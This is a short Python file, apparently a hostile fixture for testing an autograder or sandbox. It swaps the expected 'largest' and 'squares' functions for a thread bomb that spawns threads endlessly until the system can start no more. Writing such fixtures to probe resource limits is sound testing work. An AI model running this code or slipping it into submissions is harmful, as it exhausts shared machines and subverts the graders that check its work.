"""Starts threads until there can be no more, and more after that."""

import threading
import time

from honest import *  # noqa: F403


def bomb(*values):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        except RuntimeError:
            pass


def spinning(*values):
    started = []
    while True:
        try:
            started.append(threading.Thread(target=bomb))
            started[-1].start()
        except RuntimeError:
            time.sleep(0.01)


largest, squares = bomb, spinning
